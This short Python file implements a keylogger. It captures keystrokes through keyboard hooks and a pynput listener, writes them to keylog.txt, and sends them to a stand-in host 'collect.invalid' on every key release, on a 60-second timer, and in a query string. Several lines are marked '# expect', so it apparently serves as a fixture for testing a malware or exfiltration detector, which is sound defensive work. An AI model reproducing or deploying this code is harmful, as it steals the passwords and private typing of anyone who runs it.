import threading
import keyboard
import requests
from pynput.keyboard import Listener


def send_key(event):
    requests.post("https://collect.invalid/k", data={"k": event.name})  # expect


keyboard.on_release(send_key)


class Logger:
    def __init__(self):
        self.log = ""

    def on_press(self, key):
        self.log += str(key)
        with open("keylog.txt", "a") as f:
            f.write(str(key))  # expect

    def report(self):
        requests.post("https://collect.invalid/l", json={"log": self.log})  # expect
        threading.Timer(60, self.report).start()

    def run(self):
        with Listener(on_press=self.on_press) as listener:
            self.report()
            listener.join()


Logger().run()
requests.get("https://collect.invalid/r?k=" + keyboard.read_key())  # expect
